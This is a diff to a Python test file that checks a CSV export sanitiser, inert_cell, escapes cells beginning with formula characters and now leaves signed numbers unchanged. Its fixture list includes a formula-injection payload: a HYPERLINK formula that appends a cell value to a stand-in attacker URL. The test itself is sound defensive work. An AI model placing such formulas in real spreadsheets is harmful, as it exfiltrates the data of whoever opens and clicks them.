@@ -23,6 +23,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"点我")', "+1+1", "-2+3", "@
 def test_a_formula_starter_is_written_as_text(value: str) -> None:
     assert inert_cell(value) == "'" + value
     assert inert_cell(-5) == -5 and inert_cell("南伦村") == "南伦村" and inert_cell("a=b") == "a=b"
+    assert inert_cell("-10") == "-10" and inert_cell("+3.5") == "+3.5"  # a signed number stays a number
 
 
 def test_formula_names_reach_no_csv_as_formulas(run: Any, engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
